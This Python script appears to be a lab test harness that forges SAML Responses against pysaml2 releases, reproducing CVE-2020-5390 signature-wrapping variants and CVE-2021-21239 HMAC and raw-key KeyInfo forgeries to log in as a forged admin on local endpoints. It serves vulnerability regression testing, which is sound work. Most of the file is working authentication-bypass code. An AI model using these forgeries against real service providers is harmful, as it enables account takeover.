"""Library-level attack harness for the pysaml2 pairs of the lab (run with a release's venv python).

usage: python pysaml2_attack.py FIXTURES_DIR MODE [MODE...]
Prints one JSON line per mode: {"mode", "outcome": "accepted"|"refused"|"error", "name_id", "error"}.

Modes
  control           a valid Response, Assertion signed (enveloped, rsa-sha256, IdP cert in KeyInfo):
                    the positive twin; every release must accept it.
  xsw-fixture       CVE-2020-5390: pysaml2's own fixture tests/saml2_response_xsw.xml (fix commit
                    5e9d5acb), processed as tests/test_xsw.py does (authn_response, loads, verify).
  xsw5-wrapped      CVE-2020-5390 recipe, crafted here with xmlsec1 and a fresh IdP key, through the
                    same SP configuration as the lab wrapper (parse_authn_request_response): the
                    Signature stays in the forged Assertion (new ID, forged NameID); its Reference
                    points at the clean signed copy (original ID, Signature removed), which sits
                    inside a non-SAML element <XSW_ATTACK> after the forged Assertion, as in the fixture.
  xsw5-extensions   the same, but the clean copy sits in samlp:Extensions after the Response's Issuer
                    (a schema-valid place).
  xsw5-sibling      the same, but the clean copy is a second samlp:Response/saml:Assertion sibling
                    (SAML Raider's XSW5 layout): informational.
  hmac-fixture      CVE-2021-21239: pysaml2's fixture tests/xmlsec1-keydata/signed-assertion-with-hmac.xml
                    (fix commit 751dbf50), processed as tests/test_xmlsec1_key_data.py does.
  hmac-response-fixture  the fix commit's other fixture, signed-response-with-hmac.xml (the Response
                    signed with hmac-sha1, the Assertion unsigned), processed the same way.
  rawkey            CVE-2021-21239 recipe, crafted: the forged Assertion signed (enveloped, rsa-sha256)
                    by an attacker RSA key given as ds:KeyInfo/ds:KeyValue/ds:RSAKeyValue, no certificate.
  hmac-keyvalue     CVE-2021-21239 recipe, crafted: the forged Assertion signed with hmac-sha256 under
                    an attacker secret given in ds:KeyInfo/ds:KeyValue/xmlsec:HMACKeyValue (as the fixture).
  attacker-cert     an attacker's self-signed certificate (subject copied from the IdP's) in
                    ds:X509Data: informational (xmlsec1 checks X509Data certificates against its trust store).
"""
import base64
import datetime
import json
import os
import re
import secrets
import subprocess
import sys
import tempfile
from unittest.mock import Mock, patch

from saml2 import BINDING_HTTP_POST
from saml2.client import Saml2Client
from saml2.config import SPConfig

XMLSEC = "/usr/bin/xmlsec1"
NS_SAML = "urn:oasis:names:tc:SAML:2.0:assertion"
NS_SAMLP = "urn:oasis:names:tc:SAML:2.0:protocol"
RSA_SHA256 = "http://www.w3.org/2001/04/xmldsig-more#rsa-sha256"
HMAC_SHA256 = "http://www.w3.org/2001/04/xmldsig-more#hmac-sha256"
EXC_C14N = "http://www.w3.org/2001/10/xml-exc-c14n#"
ENVELOPED = "http://www.w3.org/2000/09/xmldsig#enveloped-signature"
SHA256 = "http://www.w3.org/2001/04/xmlenc#sha256"

IDP = "http://127.0.0.1:18998/idp"
SP = "http://127.0.0.1:18999/metadata"
ACS = "http://127.0.0.1:18999/acs"
REQ = "id-lab-authnrequest-1"
VICTIM = "victim-user"
FORGED = "forged-admin"

fixtures = sys.argv[1]
work = tempfile.mkdtemp(prefix="pysaml2-attack-")


def run(*cmd):
    p = subprocess.run(cmd, stdout=subprocess.PIPE, stderr=subprocess.PIPE)
    if p.returncode != 0:
        raise RuntimeError("%s failed: %s" % (cmd[0], p.stderr.decode()[-800:]))
    return p.stdout


def keypair(name, subject):
    key, crt = os.path.join(work, name + ".key"), os.path.join(work, name + ".crt")
    run("openssl", "req", "-x509", "-newkey", "rsa:2048", "-nodes", "-sha256", "-days", "3650",
        "-subj", subject, "-keyout", key, "-out", crt)
    return key, crt


def cert_b64(crt):
    return "".join(l for l in open(crt).read().splitlines() if "CERTIFICATE" not in l)


def idp_metadata(entity_id, crt, path):
    open(path, "w").write(
        '<md:EntityDescriptor xmlns:md="urn:oasis:names:tc:SAML:2.0:metadata" '
        'xmlns:ds="http://www.w3.org/2000/09/xmldsig#" entityID="%s"><md:IDPSSODescriptor '
        'protocolSupportEnumeration="urn:oasis:names:tc:SAML:2.0:protocol"><md:KeyDescriptor use="signing">'
        '<ds:KeyInfo><ds:X509Data><ds:X509Certificate>%s</ds:X509Certificate></ds:X509Data></ds:KeyInfo>'
        '</md:KeyDescriptor><md:SingleSignOnService Binding="urn:oasis:names:tc:SAML:2.0:bindings:HTTP-Redirect" '
        'Location="%s/sso"/></md:IDPSSODescriptor></md:EntityDescriptor>' % (entity_id, cert_b64(crt), entity_id))
    return path


def ts(t):
    return t.strftime("%Y-%m-%dT%H:%M:%SZ")


def assertion(aid, name_id, signature=""):
    now = datetime.datetime.utcnow()
    later, before = now + datetime.timedelta(minutes=5), now - datetime.timedelta(seconds=30)
    return (
        '<saml:Assertion xmlns:saml="%s" ID="%s" Version="2.0" IssueInstant="%s">'
        '<saml:Issuer>%s</saml:Issuer>%s'
        '<saml:Subject><saml:NameID Format="urn:oasis:names:tc:SAML:2.0:nameid-format:persistent">%s</saml:NameID>'
        '<saml:SubjectConfirmation Method="urn:oasis:names:tc:SAML:2.0:cm:bearer">'
        '<saml:SubjectConfirmationData NotOnOrAfter="%s" Recipient="%s" InResponseTo="%s"/>'
        '</saml:SubjectConfirmation></saml:Subject>'
        '<saml:Conditions NotBefore="%s" NotOnOrAfter="%s"><saml:AudienceRestriction>'
        '<saml:Audience>%s</saml:Audience></saml:AudienceRestriction></saml:Conditions>'
        '<saml:AuthnStatement AuthnInstant="%s" SessionIndex="%s"><saml:AuthnContext>'
        '<saml:AuthnContextClassRef>urn:mnctf:ac:classes:jpki-user-authentication</saml:AuthnContextClassRef>'
        '</saml:AuthnContext></saml:AuthnStatement></saml:Assertion>'
        % (NS_SAML, aid, ts(now), IDP, signature, name_id, ts(later), ACS, REQ, ts(before), ts(later), SP,
           ts(now), aid))


def signature_template(aid, sigalg, keyinfo):
    return (
        '<ds:Signature xmlns:ds="http://www.w3.org/2000/09/xmldsig#"><ds:SignedInfo>'
        '<ds:CanonicalizationMethod Algorithm="%s"/><ds:SignatureMethod Algorithm="%s"/>'
        '<ds:Reference URI="#%s"><ds:Transforms><ds:Transform Algorithm="%s"/><ds:Transform Algorithm="%s"/>'
        '</ds:Transforms><ds:DigestMethod Algorithm="%s"/><ds:DigestValue></ds:DigestValue></ds:Reference>'
        '</ds:SignedInfo><ds:SignatureValue></ds:SignatureValue><ds:KeyInfo>%s</ds:KeyInfo></ds:Signature>'
        % (EXC_C14N, sigalg, aid, ENVELOPED, EXC_C14N, SHA256, keyinfo))


def sign(xml, *keyargs):
    tmpl, out = os.path.join(work, "tmpl.xml"), os.path.join(work, "signed.xml")
    open(tmpl, "w").write(xml)
    run(XMLSEC, "--sign", *keyargs, "--id-attr:ID", NS_SAML + ":Assertion", "--output", out, tmpl)
    signed = open(out).read()
    return re.sub(r"^<\?xml[^>]*\?>\s*", "", signed).strip()


def response(body):
    now = datetime.datetime.utcnow()
    return ('<samlp:Response xmlns:samlp="%s" xmlns:saml="%s" ID="_r%s" Version="2.0" IssueInstant="%s" '
            'Destination="%s" InResponseTo="%s"><saml:Issuer>%s</saml:Issuer><samlp:Status>'
            '<samlp:StatusCode Value="urn:oasis:names:tc:SAML:2.0:status:Success"/></samlp:Status>%s'
            '</samlp:Response>' % (NS_SAMLP, NS_SAML, secrets.token_hex(8), ts(now), ACS, REQ, IDP, body))


def sp_client(idp_md):
    sp_key, sp_crt = keypair("sp", "/CN=lab-sp")
    config = SPConfig()
    config.load({
        "entityid": SP,
        "xmlsec_binary": XMLSEC,
        "key_file": sp_key,
        "cert_file": sp_crt,
        "metadata": {"local": [idp_md]},
        "service": {"sp": {
            "endpoints": {"assertion_consumer_service": [(ACS, BINDING_HTTP_POST)]},
            "authn_requests_signed": True,
            "want_response_signed": False,
            "want_assertions_signed": True,
            "allow_unsolicited": False,
            "name_id_format": "urn:oasis:names:tc:SAML:2.0:nameid-format:persistent",
        }},
        "accepted_time_diff": 60,
    })
    return Saml2Client(config)


def consume(client, xml):
    """The lab wrapper's /acs path: the library decides; returns the NameID it gives."""
    resp = client.parse_authn_request_response(base64.b64encode(xml.encode()).decode(), BINDING_HTTP_POST,
                                               {REQ: "/"})
    if resp is None or resp.assertion is None or resp.name_id is None:
        raise ValueError("no assertion / NameID returned")
    return resp.name_id.text


def fixture_response(path, sp_entity, idp_entity, idp_crt, return_addr, req_id):
    """As pysaml2's own tests: authn_response(conf, return_addrs), loads(), verify(), time checks mocked."""
    from saml2.response import authn_response
    md = idp_metadata(idp_entity, idp_crt, os.path.join(work, "fixture-idp.xml"))
    conf = SPConfig()
    conf.load({"entityid": sp_entity, "xmlsec_binary": XMLSEC, "metadata": {"local": [md]},
               "service": {"sp": {"endpoints": {"assertion_consumer_service": [return_addr]}}}})
    with patch("saml2.response.validate_on_or_after", return_value=True):
        ar = authn_response(conf, return_addr)
        ar.issue_instant_ok = Mock(return_value=True)
        ar.outstanding_queries = {req_id: "http://localhost:8088/sso"}
        ar.timeslack = 10000
        ar.loads(open(path).read(), decode=False)
        res = ar.verify()
    if not res or ar.name_id is None:
        raise ValueError("verify() returned %r, no NameID" % (res,))
    return ar.name_id.text


idp_key, idp_crt = keypair("idp", "/C=JP/O=mnctf lab/CN=lab-idp")
CLIENT = sp_client(idp_metadata(IDP, idp_crt, os.path.join(work, "idp.xml")))
RSA_KEYINFO = "<ds:X509Data><ds:X509Certificate></ds:X509Certificate></ds:X509Data>"


def idp_signed(aid, name_id):
    return sign(assertion(aid, name_id, signature_template(aid, RSA_SHA256, RSA_KEYINFO)),
                "--privkey-pem", idp_key + "," + idp_crt)


def xsw5(wrap, before=False):
    aid, fid = "_a" + secrets.token_hex(8), "_f" + secrets.token_hex(8)
    signed = idp_signed(aid, VICTIM)
    sig = re.search(r"<ds:Signature\b.*</ds:Signature>", signed, re.S).group(0)
    clean = signed.replace(sig, "")
    evil = signed.replace('ID="%s"' % aid, 'ID="%s"' % fid, 1).replace(">%s<" % VICTIM, ">%s<" % FORGED)
    if before:  # the clean copy goes right after the Response's Issuer (schema place of samlp:Extensions)
        return response(evil).replace("</saml:Issuer>", "</saml:Issuer>" + (wrap % clean), 1)
    return response(evil + (wrap % clean))


def mode_control():
    aid = "_a" + secrets.token_hex(8)
    return consume(CLIENT, response(idp_signed(aid, VICTIM)))


def mode_xsw_fixture():
    return fixture_response(os.path.join(fixtures, "saml2_response_xsw.xml"), "urn:mace:example.com:saml:roland:sp",
                            "urn:mace:example.com:saml:roland:idp", os.path.join(fixtures, "test.pem"),
                            "http://lingon.catalogix.se:8087/", "id12")


def mode_xsw5_wrapped():
    return consume(CLIENT, xsw5("<XSW_ATTACK>%s</XSW_ATTACK>"))


def mode_xsw5_extensions():
    return consume(CLIENT, xsw5("<samlp:Extensions>%s</samlp:Extensions>", before=True))


def mode_xsw5_sibling():
    return consume(CLIENT, xsw5("%s"))


def mode_hmac_fixture():
    return fixture_response(os.path.join(fixtures, "signed-assertion-with-hmac.xml"), "https://example.org/sp.xml",
                            "urn:mace:example.com:saml:roland:idp", os.path.join(fixtures, "test.pem"),
                            "https://example.org/acs/post", "id-abc")


def mode_hmac_response_fixture():
    return fixture_response(os.path.join(fixtures, "signed-response-with-hmac.xml"), "https://example.org/sp.xml",
                            "urn:mace:example.com:saml:roland:idp", os.path.join(fixtures, "test.pem"),
                            "https://example.org/acs/post", "id-abc")


def mode_rawkey():
    att_key, att_crt = keypair("attacker", "/C=JP/O=mnctf lab/CN=lab-idp")
    aid = "_a" + secrets.token_hex(8)
    xml = sign(assertion(aid, FORGED, signature_template(aid, RSA_SHA256, "<ds:KeyValue/>")),
               "--privkey-pem", att_key)
    assert "<ds:RSAKeyValue>" in xml or "RSAKeyValue" in xml, xml
    return consume(CLIENT, response(xml))


def mode_hmac_keyvalue():
    secret = secrets.token_bytes(32)
    kfile = os.path.join(work, "hmac.bin")
    open(kfile, "wb").write(secret)
    aid = "_a" + secrets.token_hex(8)
    xml = sign(assertion(aid, FORGED, signature_template(aid, HMAC_SHA256, "<ds:KeyName>attacker</ds:KeyName>")),
               "--hmackey", kfile)
    # KeyInfo is not covered by the signature: put the secret in it as xmlsec's HMACKeyValue (as the fixture).
    xml = re.sub(r"<ds:KeyInfo>.*</ds:KeyInfo>",
                 '<ds:KeyInfo><ds:KeyValue><HMACKeyValue xmlns="http://www.aleksey.com/xmlsec/2002">%s'
                 '</HMACKeyValue></ds:KeyValue></ds:KeyInfo>' % base64.b64encode(secret).decode(), xml, flags=re.S)
    return consume(CLIENT, response(xml))


def mode_attacker_cert():
    att_key, att_crt = keypair("attacker2", "/C=JP/O=mnctf lab/CN=lab-idp")
    aid = "_a" + secrets.token_hex(8)
    xml = sign(assertion(aid, FORGED, signature_template(aid, RSA_SHA256, RSA_KEYINFO)),
               "--privkey-pem", att_key + "," + att_crt)
    return consume(CLIENT, response(xml))


MODES = {"control": mode_control, "xsw-fixture": mode_xsw_fixture, "xsw5-wrapped": mode_xsw5_wrapped,
         "xsw5-sibling": mode_xsw5_sibling, "xsw5-extensions": mode_xsw5_extensions, "hmac-fixture": mode_hmac_fixture,
         "hmac-response-fixture": mode_hmac_response_fixture, "rawkey": mode_rawkey,
         "hmac-keyvalue": mode_hmac_keyvalue, "attacker-cert": mode_attacker_cert}

for mode in sys.argv[2:]:
    try:
        name_id = MODES[mode]()
        print(json.dumps({"mode": mode, "outcome": "accepted", "name_id": name_id}), flush=True)
    except Exception as e:  # the library refused (or the harness broke: the error says which)
        msg = "%s: %s" % (type(e).__name__, str(e).replace("\n", " ")[:300])
        print(json.dumps({"mode": mode, "outcome": "refused", "name_id": None, "error": msg}), flush=True)
